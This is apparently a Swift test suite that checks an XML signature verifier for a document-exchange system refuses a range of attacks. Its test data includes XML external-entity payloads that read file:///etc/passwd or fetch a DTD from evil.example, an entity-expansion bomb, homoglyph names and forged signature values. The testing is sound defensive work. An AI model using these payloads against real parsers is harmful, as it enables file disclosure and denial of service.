import Exchange
import OpenSSL
import Signature
import Testing
import XML

@Suite struct `An attack on an XML signature` {
    let letter: AttackedLetter

    init() throws {
        letter = try AttackedLetter()
        #expect(try letter.difference(letter.signed) == nil)
    }

    private func refusal(_ change: (inout SignedLetter) -> Void) throws -> SignatureReasonCode? {
        let changed = try AttackedLetter(change)
        return try changed.refusal(changed.signed)
    }

    private func unread(_ document: String) -> RejectionCode? {
        do {
            _ = try letter.outcome(of: document)
            return nil
        } catch {
            return (error as? XMLError)?.code
        }
    }

    private static func transform(_ uri: String, _ content: String = "") -> String {
        "<Transform Algorithm=\"\(uri)\">\(content)</Transform>"
    }

    // MARK: - References and transforms

    @Test func `with a Reference to another server is refused`() throws {
        #expect(try refusal { $0.uri = " URI=\"http://evil.example/\"" } == .referenceExternal)
    }

    @Test func `with a Reference to a file is refused`() throws {
        #expect(try refusal { $0.uri = " URI=\"file:///etc/passwd\"" } == .referenceExternal)
        #expect(try refusal { $0.uri = " URI=\"letter.xml\"" } == .referenceExternal)
    }

    @Test func `with no Reference is refused`() throws {
        #expect(try refusal { $0.references = "" } == .referenceMissing)
        #expect(try refusal { $0.uri = "" } == .referenceMissing)
    }

    @Test func `with XSLT is refused`() throws {
        let sheet = "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"/>"
        let xslt = Self.transform("http://www.w3.org/TR/1999/REC-xslt-19991116", sheet)
        #expect(try refusal { $0.transforms += xslt } == .transformForbidden)
        #expect(try refusal { $0.transforms = xslt } == .transformForbidden)
    }

    @Test func `with XPath is refused`() throws {
        for uri in [
            "http://www.w3.org/TR/1999/REC-xpath-19991116", "http://www.w3.org/2002/06/xmldsig-filter2",
        ] {
            let xpath = Self.transform(uri, "<XPath>count(//*)=0</XPath>")
            #expect(try refusal { $0.transforms = SignedLetter.enveloped + xpath } == .transformForbidden)
        }
    }

    @Test func `with base 64 as a transform is refused`() throws {
        let base64 = Self.transform("http://www.w3.org/2000/09/xmldsig#base64")
        #expect(try refusal { $0.transforms = SignedLetter.enveloped + base64 } == .transformForbidden)
    }

    @Test func `with a chain of transforms is refused before one of them is done`() throws {
        let exclusive = Self.transform(SignedLetter.exclusive)
        for (count, code) in [
            (2, .transformForbidden), (400, .transformForbidden), (9000, .signatureTooLarge),
        ]
            as [(Int, SignatureReasonCode)]
        {
            let chain = SignedLetter.enveloped + String(repeating: exclusive, count: count)
            #expect(try refusal { $0.transforms = chain } == code)
        }
    }

    // MARK: - Keys

    @Test func `with the attacker's KeyValue is refused`() throws {
        let value =
            "<KeyValue><RSAKeyValue><Modulus>AQAB</Modulus><Exponent>AQAB</Exponent></RSAKeyValue></KeyValue>"
        let der = Base64.encode(letter.authority.signer.der)
        let certificate = "<X509Data><X509Certificate>\(der)</X509Certificate></X509Data>"
        for keys in [value, value + certificate, certificate + value] {
            let changed = letter.signed.replacing("<KeyInfo>", with: "<KeyInfo>\(keys)")
            #expect(try letter.refusal(changed) == .keyValueForbidden)
        }
    }

    @Test func `with a certificate of the same name is refused`() throws {
        // Another authority, every name the same, every key another.
        let other = try AttackedLetter()
        #expect(try letter.refusal(other.signed) == .chainNotFound)
        let report = try letter.outcome(of: other.signed).report
        #expect(report.indication != .totalPassed)
    }

    @Test func `with a certificate that did not sign is refused`() throws {
        let stranger = try letter.authority.agencies.issue(
            made("Sở khác").asDocumentSigner(), to: try PrivateKey.generate(.ec(.p256)).publicKey())
        let changed = letter.signed.replacing(
            Base64.encode(letter.authority.signer.der), with: Base64.encode(stranger.der))
        #expect(try letter.refusal(changed) == .signatureMismatch)
    }

    @Test func `with an HMAC under the public key is refused`() throws {
        for name in ["2000/09/xmldsig#hmac-sha1", "2001/04/xmldsig-more#hmac-sha256"] {
            #expect(try refusal { $0.method = "http://www.w3.org/\(name)" } == .algorithmForbidden)
        }
    }

    @Test func `with HMACOutputLength is refused`() throws {
        let length = "<HMACOutputLength>8</HMACOutputLength>"
        #expect(try refusal { $0.methodContent = length } == .outputLengthForbidden)
        let hmac = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
        #expect(
            try refusal {
                $0.method = hmac
                $0.methodContent = length
            } == .outputLengthForbidden)
    }

    @Test func `with a value of zeros or of another shape is refused`() throws {
        let start = try #require(letter.signature.ranges(of: "<SignatureValue>").first?.upperBound)
        let value = String(letter.signature[start...].prefix { $0 != "<" })
        let bytes = try #require(Base64.decode(value))
        let zeros = [UInt8](repeating: 0, count: bytes.count)
        let half = bytes.count / 2
        let forgeries: [[UInt8]] = [
            zeros, Array(bytes[..<half] + zeros[half...]), Array(zeros[..<half] + bytes[half...]),
            bytes + [0], [0] + bytes, Array(bytes.dropLast()), [UInt8](repeating: 0xFF, count: bytes.count),
            [0x30, 0],
        ]
        for forged in forgeries {
            let changed = letter.signed.replacing(value, with: Base64.encode(forged))
            #expect(try letter.refusal(changed) == .signatureMismatch)
        }
    }

    // MARK: - Shape

    @Test func `with two SignedInfo is refused`() throws {
        #expect(try refusal { $0.moreInfo = "<SignedInfo></SignedInfo>" } == .signedInfoRepeated)
    }

    @Test func `with a Manifest is refused`() throws {
        #expect(
            try refusal { $0.objects = "<Object><Manifest></Manifest></Object>" } == .manifestForbidden)
    }

    @Test func `with names that only look like those of XML-DSig is refused`() throws {
        // The first letter is the Kelvin sign, which Swift takes for a K.
        let kelvin = letter.signed.replacing("<KeyInfo>", with: "<\u{212A}eyInfo>")
            .replacing("</KeyInfo>", with: "</\u{212A}eyInfo>")
        #expect(try letter.refusal(kelvin) == .signatureStructure)
    }

    @Test func `with a DOCTYPE, an entity bomb or an external entity is not read`() {
        let bomb =
            "<!DOCTYPE a [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>"
        for doctype in [
            "<!DOCTYPE edXML>", bomb, "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\">",
            "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
            "<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]>",
            "<!DOCTYPE a [<!ATTLIST Signature Id ID \"x\">]>",
        ] {
            let document = letter.signed.replacing("<edXML ", with: "\(doctype)<edXML ")
            #expect(unread(document) == .doctypeForbidden)
        }
        #expect(unread(letter.signed.replacing("rà soát", with: "&c;")) == .malformedXML)
    }

    @Test func `by nesting is not read`() {
        let deep = String(repeating: "<a>", count: 100) + String(repeating: "</a>", count: 100)
        for place in ["</e:MessageHeader>", "</X509Data>", "</Signature>"] {
            #expect(unread(letter.signed.replacing(place, with: deep + place)) == .xmlTooDeep)
        }
    }

    @Test func `by huge attributes is not read`() {
        let huge = String(repeating: "x", count: 70_000)
        let many = (0..<100).map { " a\($0)=\"\"" }.joined()
        for attributes in [" a=\"\(huge)\"", many] {
            for place in ["<e:MessageHeader", "<Signature", "<KeyInfo"] {
                let document = letter.signed.replacing(place, with: place + attributes)
                #expect(unread(document) == .xmlTooLarge)
            }
        }
    }

    @Test func `by a huge signature is refused`() throws {
        let long = String(repeating: "A", count: 5 << 20)
        let changed = letter.signed.replacing("<X509Certificate>", with: "<X509Certificate>\(long)")
        #expect(try letter.refusal(changed) == .signatureTooLarge)
    }
}
